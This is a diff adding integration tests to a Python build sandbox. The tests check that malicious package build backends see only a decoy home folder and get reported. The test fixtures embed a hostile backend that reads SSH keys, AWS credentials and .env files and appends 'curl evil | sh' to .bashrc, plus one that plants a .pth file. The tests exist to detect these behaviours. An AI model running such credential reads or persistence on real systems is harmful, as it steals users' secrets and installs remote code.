@@ -23,6 +23,7 @@ import pytest
 from safepip.sandbox import cage as cage_module
 from safepip.sandbox.cage import CageResult, UnconfinedBuildRefused, build_confined
 from safepip.sandbox.mechanisms import Mechanisms, available
+from tests.integration.conftest import VenvFactory
 from tests.kit.archives import make_sdist
 
 pytestmark = [pytest.mark.integration, pytest.mark.usefixtures("cage_required")]
@@ -327,3 +328,119 @@ def test_only_writes_where_code_runs_from_count_as_persistence() -> None:
     for name in (".cargo/registry/index", "go/pkg/mod/x", ".npm/_cacache/x", "build.log",
                  ".config/matplotlib/matplotlibrc"):
         assert not persists(name), name
+
+
+ABSOLUTE_BACKEND = '''\
+from setuptools import build_meta as _meta
+
+get_requires_for_build_wheel = _meta.get_requires_for_build_wheel
+prepare_metadata_for_build_wheel = _meta.prepare_metadata_for_build_wheel
+build_sdist = _meta.build_sdist
+
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    for name in (".ssh/id_rsa", ".aws/credentials", "project/.env"):
+        try:
+            with open({home!r} + "/" + name) as handle:
+                print("READ", name, handle.read()[:60].replace("\\\\n", " "), flush=True)
+        except OSError as error:
+            print("READ", name, "failed:", type(error).__name__, flush=True)
+    try:
+        with open({home!r} + "/.bashrc", "a") as handle:
+            handle.write("curl evil | sh\\\\n")
+        print("APPEND succeeded", flush=True)
+    except OSError as error:
+        print("APPEND failed:", type(error).__name__, flush=True)
+    return _meta.build_wheel(wheel_directory, config_settings, metadata_directory)
+'''
+
+
+def test_the_real_home_read_by_its_absolute_path_is_a_decoy_and_reported(
+    tmp_path: Path, venv: Path, vetted: Path, monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """The user's home (here HOME pointed at a folder holding a real-looking key and shell
+    profile; and /root, when the tests run as root, whose interpreter the build needs) is
+    hidden behind the decoy home inside the cage: reading ~/.ssh/id_rsa by its absolute path
+    reads the decoy (dynamic/secret-read), appending to its .bashrc appends to the decoy's
+    (dynamic/persistence); the real files are neither read nor changed."""
+    home = tmp_path / "real-home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_rsa").write_text(f"REAL-SECRET-{MARKER}\n")
+    (home / ".bashrc").write_text("# the user's own\n")
+    (home / "project").mkdir()
+    (home / "project" / ".env").write_text(f"TOKEN=REAL-SECRET-{MARKER}\n")
+    monkeypatch.setenv("HOME", str(home))
+    sdist = make_sdist(
+        tmp_path / "sdist", "absolute", "1.0",
+        pyproject_toml=PYPROJECT.replace("hostile", "absolute"),
+        files={"absolute_backend.py": ABSOLUTE_BACKEND.format(home=str(home)),
+               "absolute/__init__.py": ""})
+    result = build_confined(sdist, package="absolute", version="1.0",
+                            python=str(venv / "bin" / "python"), vetted_dir=vetted,
+                            output_dir=tmp_path / "out")
+    assert result.wheel is not None, result.log
+    assert f"REAL-SECRET-{MARKER}" not in result.log
+    assert "READ .ssh/id_rsa -----BEGIN OPENSSH PRIVATE KEY-----" in result.log  # the decoy
+    assert "READ project/.env failed: FileNotFoundError" in result.log  # hidden, not kept
+    assert "APPEND succeeded" in result.log
+    assert (home / ".bashrc").read_text() == "# the user's own\n"
+    rules = {(f.rule, f.evidence) for f in result.dynamic_findings}
+    assert ("dynamic/secret-read", "~/.ssh/id_rsa") in rules
+    assert ("dynamic/secret-read", "~/.aws/credentials") in rules
+    assert ("dynamic/persistence", "~/.bashrc") in rules
+    assert any("home folder hidden behind the decoy home" in e for e in result.enforced)
+
+
+def test_a_home_holding_the_cages_own_folders_is_not_hidden(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """With TMPDIR inside the home, hiding the home would hide the build's own folders."""
+    from safepip.sandbox.cage import hideable_homes
+
+    home = tmp_path / "home"
+    (home / "tmp").mkdir(parents=True)
+    monkeypatch.setenv("HOME", str(home))
+    homes, _ = hideable_homes([tmp_path / "elsewhere"])
+    assert os.path.realpath(home) in homes
+    homes, why = hideable_homes([home / "tmp" / "safepip-cage-x"])
+    assert os.path.realpath(home) not in homes
+    if not homes:
+        assert why == "the build's own folders are inside it (TMPDIR)"
+
+
+PTH_BACKEND = '''\
+from setuptools import build_meta as _meta
+
+get_requires_for_build_wheel = _meta.get_requires_for_build_wheel
+prepare_metadata_for_build_wheel = _meta.prepare_metadata_for_build_wheel
+build_sdist = _meta.build_sdist
+
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    with open({purelib!r} + "/zz_{marker}.pth", "w") as handle:
+        handle.write("import os\\\\n")
+    return _meta.build_wheel(wheel_directory, config_settings, metadata_directory)
+'''
+
+
+def test_a_target_environment_inside_the_hidden_home_still_builds_and_is_overlaid(
+    tmp_path: Path, vetted: Path, make_venv: VenvFactory, monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """The common layout ~/project/.venv: the target is bound back beneath the hidden home, so
+    the build runs, and a write into its site-packages still lands in the overlay (evidence)."""
+    home = tmp_path / "real-home"
+    monkeypatch.setenv("HOME", str(home))
+    target = make_venv(home / "project" / ".venv")
+    purelib = sysconfig.get_paths(vars={"base": str(target), "platbase": str(target)})["purelib"]
+    sdist = make_sdist(
+        tmp_path / "sdist", "inhome", "1.0", pyproject_toml=PYPROJECT.replace("hostile", "inhome"),
+        files={"inhome_backend.py": PTH_BACKEND.format(purelib=purelib, marker=MARKER),
+               "inhome/__init__.py": ""})
+    result = build_confined(sdist, package="inhome", version="1.0",
+                            python=str(target / "bin" / "python"), vetted_dir=vetted,
+                            output_dir=tmp_path / "out")
+    assert result.wheel is not None, result.log
+    assert any("home folder hidden" in e for e in result.enforced)
+    assert [(f.rule, f.evidence) for f in result.dynamic_findings] == [
+        ("dynamic/persistence", f"{purelib}/zz_{MARKER}.pth")]
+    assert not Path(purelib, f"zz_{MARKER}.pth").exists()
